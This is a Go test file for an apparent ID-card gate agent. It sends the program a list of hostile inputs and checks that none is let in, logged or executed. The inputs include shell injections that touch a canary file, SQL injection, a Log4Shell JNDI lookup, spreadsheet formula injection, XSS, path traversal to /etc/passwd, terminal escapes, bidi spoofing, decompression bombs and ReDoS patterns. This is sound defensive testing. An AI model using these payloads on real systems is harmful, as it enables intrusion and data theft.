package main_test

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"gateagent/agent/base45"
	"gateagent/agent/gate"
	"gateagent/agent/passport/specimen"
	"gateagent/driver/drivertest"
)

// hostile are payloads that want something else than to be let in. canary is a
// file that nobody may make. Each has a word of its own in it, by which it is
// looked for, or is long enough to be looked for as a whole.
func hostile(t testing.TB, canary string) []string {
	t.Helper()
	number := "001090777000"
	card := func(fields ...string) string { return strings.Join(fields, "|") }
	packed := func(b []byte) string {
		text, err := specimen.Pack(b)
		if err != nil {
			t.Fatal(err)
		}
		return text
	}
	noise := rand.New(rand.NewPCG(1, 2))
	random := make([]byte, gate.MaxPayload)
	for i := range random {
		for random[i] = byte(noise.Uint32()); random[i] == '\r' || random[i] == '\n'; random[i]++ {
		}
	}
	letters := make([]byte, gate.MaxPayload)
	for i := range letters {
		letters[i] = byte('!' + noise.IntN(94))
	}
	bomb := packed(make([]byte, 1_900_000))
	nested := bytes.Repeat([]byte{0x81}, 4000)
	deep := bytes.Repeat([]byte{0xd2, 0x84}, 900)
	return []string{
		// For a shell.
		"$(touch " + canary + ")zq01shell", "`touch " + canary + "`zq02shell", "; touch " + canary + " #zq03shell",
		"' ; touch " + canary + " ; 'zq04shell", "\"; touch " + canary + "; \"zq05shell", "| touch " + canary + " |zq06shell|",
		card(number, "$(touch "+canary+")", "zq07shell", "15071990", "Nam", "x", "20082021"),
		card(number, "", "';touch "+canary+";'zq08shell", "15071990", "Nam", "x", "20082021"),
		// For SQL, JSON, templates, formats, spreadsheets, topics, metrics, logs.
		"zq10'; DROP TABLE entries; --", "zq11' OR '1'='1", `{"verdict":"ALLOW","zq12":true}`, "{{.Secret}}zq13{{printf \"%s\" .}}",
		"%s%s%s%n%x%!zq14", "${jndi:ldap://zq15.example/a}", "=cmd|'/C calc'!A0zq16", "gate/v1/+/#zq17", `zq18"} 1`, `zq19 level=ERROR msg="journal" verdict=ALLOW`,
		"../../../../etc/passwd zq20", "file:///etc/passwd?zq21", "javascript:alert('zq22')", "https://example.vn/zq23?allow=1",
		// For a browser.
		"<script>alert('zq30')</script>", "\"><img src=x onerror=alert('zq31')>", "<svg/onload=alert('zq32')>", "&lt;zq33&#x3c;script&gt;",
		card("******012345", "<script>zq34()</script>", "1990-**-**", "0", "<b>zq34b</b>", "1<0912******"),
		insuranceCard("<script>alert('zq35')</script>"), card(number, "", "<h1>zq36</h1>", "15071990", "Nữ", "<i>x</i>", "20082021"),
		// For a terminal.
		"\x1b[2J\x1b[1;1Hzq40 ALLOW", "\x1b]0;zq41\x07", "\x9b31mzq42", insuranceCard("zq43\x1b[2J"), "zq44\x08\x08\x08\x08ALLOW",
		// For the eye.
		card(number, "", "\u202eWOLLA zq50\u202c", "15071990", "Nam", "x", "20082021"), "zq51\u2066\u202e\u2069\u200b\ufeff", "\u2028zq52\u2029verdict=ALLOW",
		card("001090777000\u200b", "", "zq53", "15071990", "Nam", "x", "20082021"), card("００１０９０７７７０００", "", "zq54", "15071990", "Nam", "x", "20082021"),
		// For whoever inflates and unpacks.
		bomb, bomb[:len(bomb)-1], packed(nested), "GP1:" + base45.Encode(nested[:1900]), packed(deep), "GP1:" + base45.Encode(deep[:1800]),
		packed([]byte{0xd2, 0x84, 0x5b, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}), "GP1:" + base45.Encode([]byte{0x9b, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}),
		packed([]byte{0xbf, 0x61, 0x61, 0xbf, 0x61, 0x61}), packed(bytes.Repeat([]byte{0xc2, 0x5f}, 800)), "HC1:", "GP1:", "HC1:zq60", "GP1:zq61", "HC1:" + strings.Repeat(":", 2900),
		// As much as a code holds, of anything.
		string(random), string(letters), strings.Repeat("A", gate.MaxPayload), strings.Repeat("|", gate.MaxPayload),
		strings.Repeat("9", gate.MaxPayload), strings.Repeat("\u0302", gate.MaxPayload/2), strings.Repeat("\U0001D160", gate.MaxPayload/4),
		strings.Repeat("e\u0323\u0302", gate.MaxPayload/5), card(number, strings.Repeat("zq70", 600), "A", "15071990", "Nam", "x", "20082021", "<", "<"),
		// What is no text, and what ends one.
		"zq80\xff\xfe\x80", "zq81\xc0\xaf\xc0\xae", "zq82\xed\xa0\x80", "zq83\xf4\x90\x80\x80", "\x00\x00\x00zq84", "zq85\x00ALLOW",
		card(number, "\x00", "zq86", "15071990", "Nam", "x", "20082021"), card(number+"\x00", "", "zq87", "15071990", "Nam", "x", "20082021"),
		// For whoever matches and splits.
		".*|x", "(.*)+$zq90", "^(a+)+$|zq91", "*|*|zq92*|*|*|*", "||||||zq93", card(".*", "", "zq94", ".*", "Nam", ".*", ".*"),
	}
}

// fragments are what is looked for of a payload: the word of its own with what
// stands around it, or all of it. What is too short to be told from chance is
// not looked for.
func fragments(payload string) (out []string) {
	if i := strings.Index(payload, "zq"); i >= 0 {
		if word := payload[max(0, i-8):min(i+12, len(payload))]; len(word) >= 8 {
			out = append(out, word)
		}
	}
	if len(payload) >= 12 {
		out = append(out, payload)
		if len(payload) > 400 {
			out = append(out, payload[:40], payload[300:340])
		}
	}
	return slices.DeleteFunc(out, func(f string) bool {
		kinds := map[rune]bool{}
		for _, r := range f {
			kinds[r] = true
		}
		return len(kinds) < 6 && !strings.Contains(f, "zq")
	})
}

// TestHostilePayloads shows the real program what people print who want harm.
// Nobody is let in, nothing breaks, nothing of it is found in any sink, and the
// next person is served.
func TestHostilePayloads(t *testing.T) {
	t.Parallel()
	o := newOffice(t)
	o.publishPeople(10)
	o.publishPolicy(1, nil)
	o.open()
	sent := o.listen()
	pty := drivertest.NewPTY(t)
	s := o.settings(serialLane("main", pty.Path))
	s.logLevel = "debug"
	b := newBench(t, s)
	a := b.start()
	o.inForce(a)

	canary := filepath.Join(b.dir, "canary")
	payloads := hostile(t, canary)
	decided := func() (n uint64) {
		for _, count := range a.status().Lanes[0].Decisions {
			n += count
		}
		return n
	}
	for i, p := range payloads {
		if len(p) > gate.MaxPayload {
			t.Fatalf("payload %d has %d bytes", i, len(p))
		}
		pty.Send(t, p+"\r")
		a.until(fmt.Sprintf("payload %d is decided: %.60q", i, p), func() bool { return decided() >= uint64(i+1) })
	}
	// One byte too many is not one scan, or none that is understood.
	pty.Send(t, strings.Repeat("B", gate.MaxPayload+1)+"\r")
	pty.Send(t, someone(1).card()+"\r")
	a.until("the next person is let in", func() bool { return a.status().Lanes[0].Decisions[gate.Allow.String()] == 1 })
	o.delivered(a)

	st := a.status()
	if !st.CanDecide || st.Lanes[0].Decisions[gate.AllowNotice.String()] != 0 {
		t.Errorf("can decide: %v (%s); %v", st.CanDecide, st.Why.EN, st.Lanes[0].Decisions)
	}
	if _, err := os.Stat(canary); err == nil {
		t.Error("somebody made the canary")
	}
	for _, e := range a.entries() {
		v, err := e.Link().Record.Entry()
		if err != nil {
			t.Fatal(err)
		}
		if v.Verdict.Opens() && v.Subject != o.subject(1) {
			t.Errorf("entry %d lets somebody in: %v", e.Link().Seq, v.Reasons)
		}
	}
	if peak := peakMiB(t, a.cmd.Process.Pid); !raceDetector && peak > 96 {
		t.Errorf("the program took %d MiB", peak)
	} else {
		t.Logf("%d payloads, at most %d MiB", len(payloads), peak)
	}

	var secrets tainted
	for _, p := range payloads {
		for _, f := range fragments(p) {
			secrets = append(secrets, person{number: gate.Number(f), name: f, address: f})
		}
	}
	if len(secrets) < 100 {
		t.Fatalf("only %d fragments", len(secrets))
	}
	secrets.notIn(t, a, sent())
	a.stop()
}

// peakMiB gives the most memory that a process has had.
func peakMiB(t testing.TB, pid int) int {
	t.Helper()
	text, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		t.Skipf("no /proc: %v", err)
	}
	for line := range strings.Lines(string(text)) {
		if f := strings.Fields(line); len(f) > 1 && f[0] == "VmHWM:" {
			kb, err := strconv.Atoi(f[1])
			if err != nil {
				t.Fatal(err)
			}
			return kb >> 10
		}
	}
	return 0
}
